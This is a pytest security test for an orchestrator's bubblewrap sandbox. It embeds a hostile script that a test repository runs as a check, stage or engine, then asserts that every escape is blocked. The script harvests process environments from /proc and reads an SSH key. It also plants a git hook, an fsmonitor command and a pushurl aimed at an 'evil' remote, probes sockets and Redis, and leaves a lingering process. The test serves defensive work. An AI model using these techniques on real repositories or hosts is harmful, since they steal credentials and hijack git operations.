"""The trust boundary, attacked through the real CLI under the real bubblewrap.

A hostile repository's own test (the ``project-tests`` check, a default, unsandboxed-by-
nothing config) tries everything a check has been seen to try: read the orchestrator's
keys from /proc, read the real home's ssh key and another ticket's clone, forge an
approval, rewrite the ledger, plant a hook, a fsmonitor and a pushurl in the clone's
``.git`` for the stages that follow, reach a loopback TCP port, a unix socket and a
Redis, write outside the clone, leave a setsid'd child behind, and write a file past the
size limit. Whatever the run's outcome, nothing may show outside what is allowed: the
canaries stay absent, the secrets appear in no file the run left and on no pushed
branch, the other run's files and the ledger's rows are byte-for-byte as they were.

Everything lives outside /tmp, so the sandbox's private /tmp cannot make a write look
refused when it only went somewhere invisible."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator.app.ledger_link import ledger_for

from conftest import orchestrator_cmd, subprocess_env, write_ticket
from support.gitrepo import bare_clone, commit_files, init_repo
from support.ledger_rows import conclude, decide
from support.redis_server import RedisServer, redis_server_binary
from support.sandbox_required import require_sandbox

pytestmark = pytest.mark.slow

SECRETS = {
    "ANTHROPIC_API_KEY": "sk-ant-api03-canaryANTHROPIC0000000000000000000000000000000000",
    "ORCHESTRATOR_LEDGER_KEY": "canary-ledger-key-0000000000000000",
    "GITHUB_TOKEN": "ghp_canaryGITHUB000000000000000000000000",
}
HOME_SECRET = "canary-home-ssh-key-0000000000"
OTHER_SECRET = "canary-other-ticket-0000000000"

# The hostile test. It reports what it managed as one JSON line on stdout (the check's
# log) and tries to keep what it read where it might leave: its own log, a file in the
# clone, a commit.
ATTACK = r"""
import json, os, resource, socket, subprocess, sys, time
args = json.loads(sys.argv[1])
seen = {}

def attempt(name, fn):
    try:
        seen[name] = fn()
    except Exception as exc:  # the point is to try everything
        seen[name] = "refused: " + type(exc).__name__ + ": " + str(exc)[:200]

harvest = []
def read_proc():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                found.append(open(f"/proc/{pid}/{part}", "rb").read().decode("latin-1"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/mem", "rb") as mem:
                found.append("mem-open:" + pid)
        except OSError:
            pass
    harvest.extend(found)
    return {"pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit())}
attempt("proc", read_proc)
def read(path):
    text = open(path, errors="replace").read()
    harvest.append(text)
    return "read"
attempt("home_key", lambda: read(args["home_key"]))
attempt("other_clone", lambda: read(args["other_secret"]))
attempt("state_listing", lambda: os.listdir(os.environ["ORCH_STATE_DIR"]))
runs = os.path.join(os.environ["ORCH_STATE_DIR"], "runs")
def forge():
    path = os.path.join(runs, os.environ["ORCH_RUN_ID"] + ".approval-1.json")
    open(path, "w").write('{"approved": true, "by": "nobody"}')
    return "written"
attempt("approval", forge)
def ledger():
    open(os.path.join(os.environ["ORCH_STATE_DIR"], "ledger.jsonl"), "a").write("{}\n")
    return "written"
attempt("ledger", ledger)
git = os.path.join(os.environ["ORCH_CLONE_DIR"], ".git")
def hook():
    path = os.path.join(git, "hooks", "pre-push")
    open(path, "w").write("#!/bin/sh\ntouch " + args["canary"] + "-hook\n")
    os.chmod(path, 0o755)
    return "written"
attempt("hook", hook)
def config():
    with open(os.path.join(git, "config"), "a") as fh:
        fh.write("[core]\n\tfsmonitor = touch " + args["canary"] + "-fsmonitor\n")
        fh.write('[remote "origin"]\n\tpushurl = ' + args["evil"] + "\n")
    return "written"
attempt("git_config", config)
attempt("outside", lambda: open(args["canary"], "w").write("escaped"))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", args["tcp_port"]), timeout=2).close() or "connected")
def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(path)
    return s
attempt("unix", lambda: unix(args["unix_socket"]).close() or "connected")
if args.get("redis_socket"):
    def redis():
        s = unix(args["redis_socket"])
        s.sendall(b"*3\r\n$3\r\nSET\r\n$6\r\npwned!\r\n$3\r\nyes\r\n")
        return s.recv(100).decode()
    attempt("redis", redis)
def big():
    with open("big.bin", "wb") as fh:
        fh.write(b"x" * (3 * 1024 * 1024))
    return "written"
attempt("big_file", big)
seen["nproc"] = resource.getrlimit(resource.RLIMIT_NPROC)[0]
def linger():
    # setsid + double fork: the child outlives this check unless the sandbox ends it.
    code = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\ntime.sleep(%s)\nopen(%r, 'w').write('lingered')\n" % (args["linger_s"], args["canary"] + "-linger")
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True).wait()
    return "started"
attempt("linger", linger)
harvested = "\n".join(harvest)
attempt("keep_in_clone", lambda: open("harvest.txt", "w").write(harvested) and "written")
attempt("commit", lambda: subprocess.run(["git", "add", "-A"], check=True) and subprocess.run(["git", "commit", "-qm", "harvest"], check=True) and "committed")
print("PROBE " + json.dumps(seen), flush=True)
print(harvested[-20000:])
"""


@pytest.fixture
def outside(request: pytest.FixtureRequest) -> Iterator[Path]:
    """A working directory outside /tmp (the sandbox's /tmp is private: a write there
    would vanish rather than be refused)."""
    base = Path("/var/tmp") if os.access("/var/tmp", os.W_OK) else Path(__file__).parent
    path = base / f"orch-trust-{uuid.uuid4().hex[:12]}"
    path.mkdir()
    yield path
    shutil.rmtree(path, ignore_errors=True)


class UnixRedis(RedisServer):
    """The test Redis, also listening on a unix socket beside it."""

    def __init__(self, binary: str, directory: Path, socket_path: Path) -> None:
        super().__init__(binary, directory)
        self.socket_path = socket_path

    def _argv(self, port: int) -> list[str]:
        return [
            *super()._argv(port),
            "--unixsocket",
            str(self.socket_path),
            "--unixsocketperm",
            "777",
        ]


def digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def files_holding(root: Path, needles: list[str]) -> list[str]:
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            found += [f"{path}: {n}" for n in needles if n.encode() in data]
    return found


def git_text(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, capture_output=True, text=True, check=False
    ).stdout


def lingering(marker: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline:
                pids.append(int(entry))
    return pids


@pytest.mark.parametrize("where", ["check", "stage", "engine"])
def test_a_hostile_project_reaches_nothing_outside_its_clone(outside: Path, where: str) -> None:
    """``check``: the attack is the project's own test. ``stage``: it is what a coding
    stage runs (a command stage), which may write the clone's ``.git`` (it commits):
    what it plants there must run nowhere, and the push still goes where the ticket says
    or nowhere. ``engine``: a coding engine, the same, but with the network it needs to
    reach its model (declared by default): the loopback TCP port is reachable from it,
    by design; a unix socket, the keys, the home and the state dir are not."""
    require_sandbox()
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(HOME_SECRET)
    canary = outside / "canary"
    evil = outside / "evil.git"
    subprocess.run(["git", "init", "-q", "--bare", str(evil)], check=True)

    work = init_repo(outside / "work")
    commit_files(work, {"README.md": "hello\n", "attack.py": ATTACK}, "initial")
    origin = bare_clone(outside / "work", outside / "origin.git")

    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(1)
    tcp.setblocking(False)
    unix_path = outside / "agent.sock"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(unix_path))
    unix.listen(1)
    unix.setblocking(False)
    redis = None
    binary = redis_server_binary()
    if binary is not None:
        redis = UnixRedis(binary, outside / "redis", outside / "redis.sock")
        redis.start()
    else:
        print("trust boundary: no redis-server here; the Redis attack is left out")

    # A ticket that ran before: its clone holds a secret of its own.
    state = outside / "state"
    other_clone = state / "runs" / "OTHER-1-20260101T000000Z-0000" / "clone"
    other_clone.mkdir(parents=True)
    (other_clone / "secret.txt").write_text(OTHER_SECRET)

    linger_s = f"30.{os.getpid()}"
    args = {
        "home_key": str(home / ".ssh" / "id_ed25519"),
        "other_secret": str(other_clone / "secret.txt"),
        "canary": str(canary),
        "evil": str(evil),
        "tcp_port": tcp.getsockname()[1],
        "unix_socket": str(unix_path),
        "redis_socket": str(outside / "redis.sock") if redis else "",
        "linger_s": linger_s,
    }
    attack = f'command = ["{{python}}", "attack.py", {json.dumps(json.dumps(args))}]\n'
    implement = {
        "stage": attack,
        "engine": 'engine = "hostile"\n',
        "check": 'command = ["bash", "-c", "echo change >> README.md && git commit -qam change"]\n',
    }[where]
    engine = (
        '[engines.hostile]\nkind = "command"\nmodels = ["m"]\n'
        f'command = ["{{python}}", "attack.py", {json.dumps(json.dumps(args))}]\n'
    )
    check = attack if where == "check" else 'command = ["true"]\n'
    config = outside / "config.toml"
    config.write_text(
        'state_dir = "state"\n[recovery]\nenabled = false\n'
        "[sandbox]\nmax_file_mb = 1\nmax_processes = 512\n"
        + engine
        + '[[stages]]\nname = "clone"\ncommand = ["{python}", "-P", "-m", "orchestrator.stages.clone"]\n'
        'cwd = "run"\nnetwork = true\n'
        '[[stages]]\nname = "implement"\n' + implement + '[[stages]]\nname = "review"\n'
        '[[stages.checks]]\nname = "project-tests"\n' + check + '[[stages]]\nname = "open-pr"\n'
        'command = ["{python}", "-P", "-m", "orchestrator.stages.open_pr_local"]\n'
        "side_effectful = true\nnetwork = true\n"
    )
    ticket = write_ticket(outside / "tickets", "T-1", repository=str(origin))
    env = subprocess_env(HOME=str(home), DRY_RUN="false", **SECRETS)
    # A ledger keyed with the orchestrator's key, holding a past decision and its outcome.
    conclude(ledger_for(state, SECRETS), decide(ledger_for(state, SECRETS), 1, "", "retry"), "done")
    assert (state / "ledger.jsonl").is_file() and (state / "ledger.head").is_file()
    before = digest(state)
    rows_before = (state / "ledger.jsonl").read_bytes()
    try:
        done = subprocess.run(
            orchestrator_cmd("--config", str(config), "run", str(ticket)),
            env=env,
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
    finally:
        tcp_reached = _accepted(tcp)
        unix_reached = _accepted(unix)
        tcp.close()
        unix.close()
        redis_value = _redis_get(outside / "redis.sock", "pwned!") if redis else None
        if redis is not None:
            redis.stop()
    output = done.stdout + done.stderr
    logs = sorted(
        (state / "runs").glob(
            f"T-1-*/logs/*{'project-tests' if where == 'check' else 'implement'}.log"
        )
    )
    assert logs, output
    probe_line = next(
        (line for line in logs[-1].read_text().splitlines() if line.startswith("PROBE ")), None
    )
    assert probe_line is not None, logs[-1].read_text()
    seen = json.loads(probe_line[len("PROBE ") :])

    # Its own PID namespace: only the sandbox's processes are there to read.
    assert max(seen["proc"]["pids"]) < 100, seen["proc"]
    # An engine too (issue 40): its one way out is the egress proxy, to its model's host.
    refused = ["home_key", "other_clone", "approval", "ledger", "outside", "unix", "tcp"]
    refused += ["big_file"]
    # A check finds the clone's .git read-only; a coding stage may write it (it commits).
    refused += ["hook", "git_config", "commit"] if where == "check" else []
    for name in refused:
        assert str(seen[name]).startswith("refused"), (name, seen[name])
    assert seen["state_listing"] in (["runs"], []) or str(seen["state_listing"]).startswith(
        "refused"
    )
    assert seen["nproc"] == 512
    if redis is not None:
        assert str(seen["redis"]).startswith("refused"), seen["redis"]
        assert redis_value is None
    assert not tcp_reached and not unix_reached

    # Nothing outside what is allowed changed, whatever the run's outcome.
    for suffix in ("", "-hook", "-fsmonitor", "-linger"):
        assert not Path(f"{canary}{suffix}").exists(), suffix
    assert lingering(linger_s) == []
    after = digest(state)
    # Nothing rewritten: the other run's files as they were; the ledger's past rows too
    # (the run may add its own after them, and the keyed head must still verify).
    growing = {"ledger.jsonl", "ledger.head"}
    assert {k: v for k, v in after.items() if k in before and k not in growing} == {
        k: v for k, v in before.items() if k not in growing
    }
    assert (state / "ledger.jsonl").read_bytes().startswith(rows_before)
    verified = subprocess.run(
        orchestrator_cmd("--config", str(config), "ledger", "verify"),
        env=env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert verified.returncode == 0 and verified.stdout.startswith("OK"), verified
    assert not list((state / "runs").glob("*.approval-*.json"))
    assert git_text(evil, "for-each-ref") == ""
    needles = [*SECRETS.values(), HOME_SECRET, OTHER_SECRET]
    assert files_holding(state / "runs" / logs[-1].parent.parent.name, needles) == []
    assert needles[0] not in output
    pushed = git_text(origin, "log", "-p", "--all")
    assert not any(n in pushed for n in needles)
    if where == "check":
        assert done.returncode == 0, output  # the run itself went on: the check passed
        # The branch went where the ticket says, not where the planted pushurl pointed.
        assert "change" in git_text(origin, "log", "--format=%s", "orch/T-1")
    else:
        # It planted a pushurl and a fsmonitor in .git/config: the clone is refused as
        # tampered (a stage: by the driver before the next stage; an engine: already by
        # the engine's own commit step, hardened), and nothing is pushed anywhere.
        assert done.returncode != 0, output
        if where == "stage":
            assert "halted: precondition_failed at stage review" in output, output
            assert "remote.origin.pushurl" in output
        assert git_text(origin, "for-each-ref", "refs/heads/orch/T-1") == ""


def _accepted(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return False
    return True


def _redis_get(path: Path, key: str) -> str | None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(5)
        client.connect(str(path))
        client.sendall(f"*2\r\n$3\r\nGET\r\n${len(key)}\r\n{key}\r\n".encode())
        reply = client.recv(100)
    return None if reply.startswith(b"$-1") else reply.decode()


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
